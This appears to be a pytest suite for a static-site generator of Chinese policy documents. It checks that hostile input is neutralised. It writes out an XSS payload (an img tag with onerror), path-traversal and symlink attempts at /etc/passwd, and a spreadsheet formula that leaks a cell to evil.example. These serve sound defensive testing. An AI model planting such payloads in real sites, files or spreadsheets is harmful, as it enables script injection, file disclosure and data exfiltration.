"""The eleven reproductions of hostile content and broken input (issue 14), one test each.

Each plants the defect the issue describes into the tiny fixture project and asserts what
must happen instead: nothing runs, nothing leaks, nothing hangs, and the message that
names the cause is not buried.
"""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest

from conftest import ROOT, mkdocs_build
from generator.content.load import Paths
from generator.content.validate import check
from generator.site import tabular
from test_check import DOC, LINE, TOPICS, UNITS, plant, run_check

PAYLOAD = "X<img src=x onerror=alert(2)>"


def crosswalk(*argv: str, cwd: Path = ROOT, timeout: float = 60) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "generator", *argv], cwd=cwd, capture_output=True, text=True,
                          timeout=timeout)


class _Elements(HTMLParser):
    """Every element and attribute the HTML parser sees: what a browser would make live."""

    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict]]:
    parser = _Elements()
    parser.feed(html)
    return parser.tags


# 1 ------------------------------------------------------------------------------------------

def test_1_jurisdiction_name_is_escaped_in_the_topic_pages_toc(make_project):
    root = make_project()
    plant(root, "content/jurisdictions.yaml", "name: 示例市,", f"name: '示例市{PAYLOAD}',")
    site = root / "site"
    result = mkdocs_build(root, site)
    assert result.returncode == 0, result.stderr
    pages = [site / "topics/facilities/index.html", site / "zh-Hant/topics/facilities/index.html"]
    for page in pages:
        html = page.read_text(encoding="utf-8")
        assert "示例市X&lt;img src=x onerror=alert(2)&gt;" in html, page  # shown, as text
        live = [attrs for tag, attrs in elements(html) if tag == "img" and "onerror" in attrs]
        assert live == [], f"{page}: a jurisdiction name became an element"


# 2 ------------------------------------------------------------------------------------------

# What check says of each name (file, line and message) is in test_hostile_inputs.py's traversal
# cases; here, that coverage, which reads sources too, reads none of them.
def test_2_coverage_reads_no_file_out_of_content_sources(make_project):
    root = make_project(site_config=False)
    (root / "content/sources/link.txt").symlink_to("/etc/passwd")
    (root / "content/sources/dir").mkdir()
    names = ["../../../../../../../etc/passwd", "/etc/passwd", "sub/../../x.txt", "link.txt", "dir"]
    for old, name in zip(["demo-2020-opinion.txt"] + names, names):
        plant(root, DOC, f"file: {old}\n", f"file: {name}\n")
        coverage = crosswalk("--root", str(root), "coverage")
        assert coverage.returncode == 1, name
        assert "root:" not in coverage.stdout + coverage.stderr, name  # no line of /etc/passwd


# 3 ------------------------------------------------------------------------------------------
# Alias bombs, tags and merge keys: test_hostile_inputs.py's alias-bomb and tag cases.


# 4 ------------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def test_4_csv_and_xlsx_cells_never_start_a_formula(make_project):
    root = make_project()
    plant(root, DOC, "span: 每百户居民不低于30平方米, value: 30, comparator: '>=', unit: 平方米/百户}",
          f"span: 30平方米, value: 30, comparator: '=', unit: 平方米/百户, scope: '{FORMULA}'}}")
    site = root / "site"
    result = mkdocs_build(root, site)
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO((site / "data/targets.csv").read_text(encoding="utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert "'" + FORMULA in cells and "'=" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]
    import openpyxl
    book = openpyxl.load_workbook(site / "data/targets.xlsx")
    values = [c.value for sheet in book for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert "'" + FORMULA in values and "'=" in values
    assert not [v for v in values if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    import json
    targets = json.loads((site / "data/targets.json").read_text(encoding="utf-8"))
    assert [(t["comparator"], t["scope"]) for t in targets] == [("=", FORMULA)]  # the JSON keeps the value


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_4_neutralise_follows_owasp():
    assert [tabular.neutralise(t) for t in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "a=1", "")] == [
        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\t=1", "'\r=1", "a=1", ""]
    table = tabular.Table("t", ["=h", "n"], [["=x", -1.5], [None, 2]])
    assert tabular.csv_bytes(table).decode("utf-8-sig") == "'=h,n\n'=x,-1.5\n,2\n"


# 5 ------------------------------------------------------------------------------------------

def test_5_an_empty_units_file_is_named_and_its_references_folded(make_project):
    root = make_project(site_config=False)
    (root / UNITS).write_text("", encoding="utf-8")
    code, problems, _ = run_check(root)
    assert code == 1
    assert (UNITS, 1, "the file is empty (or holds only comments)") in problems
    assert not [m for _, _, m in problems if "unknown unit" in m]
    assert [m for _, _, m in problems if "which failed to load" in m] == [
        f"… and 2 reference(s) into {UNITS}, which failed to load"]


# 6 ------------------------------------------------------------------------------------------

def test_6_references_into_a_document_that_failed_to_load_are_one_line(make_project):
    root = make_project(site_config=False)
    plant(root, DOC, "title: 关于", "title: [关于")
    code, problems, _ = run_check(root)
    assert code == 1
    assert (DOC, 3, "YAML syntax error: did not find expected ',' or ']'; if this line's value is text holding "
            "': ', ',', '[' or '{', quote this value (text: '截止时间: 6月15日')") in problems
    assert [p for p in problems if p[0] == TOPICS] == [
        (TOPICS, 9, f"… and 5 reference(s) into demo-2020 ({DOC}), which failed to load")]
    assert not [m for _, _, m in problems if "unknown" in m]


# 7 ------------------------------------------------------------------------------------------

def _get(url: str, timeout: float = 10) -> tuple[int, str]:
    import urllib.error
    import urllib.request
    try:
        with urllib.request.urlopen(url, timeout=timeout) as response:
            return response.status, response.read().decode("utf-8")
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode("utf-8")


def _wait_for(url: str, phrase: str, limit: float) -> str:
    deadline = time.monotonic() + limit
    body = ""
    while time.monotonic() < deadline:
        try:
            _, body = _get(url, timeout=limit)
        except OSError:
            time.sleep(0.2)
            continue
        if phrase in body:
            return body
        time.sleep(0.3)
    raise AssertionError(f"{url} did not show {phrase!r} within {limit} s; last body: {body[:300]}")


def _free_port() -> int:
    import socket
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_7_serve_shows_the_problems_in_the_browser_and_recovers(make_project, tmp_path):
    root = make_project()
    plant(root, DOC, "title: 关于", "title: [关于")
    port = _free_port()
    log = tmp_path / "serve.log"
    with log.open("w") as out:
        server = subprocess.Popen([sys.executable, "-m", "mkdocs", "serve", "-a", f"127.0.0.1:{port}"],
                                  cwd=root, stdout=out, stderr=subprocess.STDOUT,
                                  env={**os.environ, "NO_MKDOCS_2_WARNING": "1"})
    try:
        url = f"http://127.0.0.1:{port}/documents/demo-2020/"
        start = time.monotonic()
        body = _wait_for(url, "内容有误", 60)
        first = time.monotonic()
        _, again = _get(url, timeout=5)   # served at once, not held
        assert time.monotonic() - first < 5 and "内容有误" in again
        items = re.findall(r"<li><code>(.*?)</code></li>", body)
        assert any(item.startswith(f"{DOC}:3:13: YAML syntax error: did not find expected &#39;,&#39; or &#39;]&#39;")
                   for item in items), items
        assert all(LINE.match(item) for item in items) and items
        assert "<html lang=\"zh-Hans\">" in body and "livereload" in body  # reloads by itself
        terminal = log.read_text(encoding="utf-8")
        assert f"{DOC}:3:13: YAML syntax error: did not find expected ',' or ']'" in terminal
        plant(root, DOC, "title: [关于", "title: 关于")
        fixed = _wait_for(url, "关于加强社区治理的实施意见", 60)
        assert "内容有误" not in fixed
        plant(root, DOC, "printed: 2020-05-01", "printed: 2018-02-30")   # broken again, while serving
        broken = _wait_for(url, "内容有误", 60)
        assert f"{DOC}:9:12: demo-2020.dates.printed: invalid date &#39;2018-02-30&#39;" in broken
        assert time.monotonic() - start < 180
    finally:
        server.terminate()
        server.wait(timeout=30)


# 8 ------------------------------------------------------------------------------------------

def test_8_root_is_honoured_by_coverage_and_ingest(make_project, tmp_path):
    root = make_project(site_config=False)
    coverage = crosswalk("--root", str(root), "coverage")
    assert coverage.returncode == 0, coverage.stdout + coverage.stderr
    assert {line.split(":")[0] for line in coverage.stdout.splitlines() if not line.startswith(" ")} == {
        "demo-2020", "demo-county-2021"}
    source = root / "content/sources/demo-2020-opinion.txt"
    before = sorted(p.name for p in (ROOT / "content/documents").iterdir())
    ingest = crosswalk("--root", str(root), "ingest", str(source), "--doc-id", "demo-2099")
    assert ingest.returncode == 0, ingest.stderr
    assert (root / "content/documents/demo-2099.yaml").is_file()
    assert sorted(p.name for p in (ROOT / "content/documents").iterdir()) == before
    bench = crosswalk("--root", str(root), "bench", "--documents", "1")
    assert bench.returncode == 2 and "--root does not apply to bench" in bench.stderr


# 9 ------------------------------------------------------------------------------------------

SAMPLE = Path(__file__).parent / "fixtures" / "ingest" / "sample-opinion.txt"


def test_9_ingest_refuses_a_file_out_a_directory_target_and_a_dangling_symlink(tmp_path):
    a_file = tmp_path / "a-file"
    a_file.write_text("keep", encoding="utf-8")
    result = crosswalk("ingest", str(SAMPLE), "--doc-id", "yuxi-2099", "--out", str(a_file))
    assert (result.returncode, result.stderr.strip()) == (
        1, f"error: --out {a_file} is a file, not a directory; nothing written")
    (tmp_path / "d" / "yuxi-2099.yaml").mkdir(parents=True)
    result = crosswalk("ingest", str(SAMPLE), "--doc-id", "yuxi-2099", "--out", str(tmp_path / "d"), "--force")
    assert result.returncode == 1 and "exists and is not a file; nothing written" in result.stderr
    links = tmp_path / "links"
    links.mkdir()
    (links / "yuxi-2099.yaml").symlink_to(tmp_path / "elsewhere.yaml")
    for force in ([], ["--force"]):
        result = crosswalk("ingest", str(SAMPLE), "--doc-id", "yuxi-2099", "--out", str(links), *force)
        assert result.returncode == 1 and "is a symbolic link; remove it first" in result.stderr
        assert not (tmp_path / "elsewhere.yaml").exists()
    assert "Traceback" not in result.stderr
    assert a_file.read_text(encoding="utf-8") == "keep"


# 10 -----------------------------------------------------------------------------------------

@pytest.mark.parametrize("copy", ["demo-2020-copy.yaml", "a-demo-2020.yaml"])
def test_10_a_duplicate_document_is_reported_against_the_copy(make_project, copy):
    root = make_project(site_config=False)
    (root / "content/documents" / copy).write_text((root / DOC).read_text(encoding="utf-8"), encoding="utf-8")
    code, problems, _ = run_check(root)
    label = f"content/documents/{copy}"
    assert code == 1
    duplicate = [(f, m) for f, _, m in problems if "duplicate document id" in m]
    assert len(duplicate) == 1 and duplicate[0][0] == label, problems
    assert DOC in duplicate[0][1]  # and names the original
    assert not [p for p in problems if p[0] == DOC]


# 11 -----------------------------------------------------------------------------------------

def test_11_a_source_edited_between_two_checks_is_read_afresh(make_project):
    root = make_project(site_config=False)
    paths = Paths.at(root)
    assert [p for p in check(paths)[1] if p.severity == "error"] == []
    source = root / "content/sources/demo-2020-opinion.txt"
    text = source.read_text(encoding="utf-8")
    source.write_text(text.replace("党员干部要带头", "党员干部应带头"), encoding="utf-8")
    problems = [str(p) for p in check(paths)[1] if p.severity == "error"]
    assert any("text is not found verbatim in demo-2020-opinion.txt lines 12-12" in p for p in problems), problems
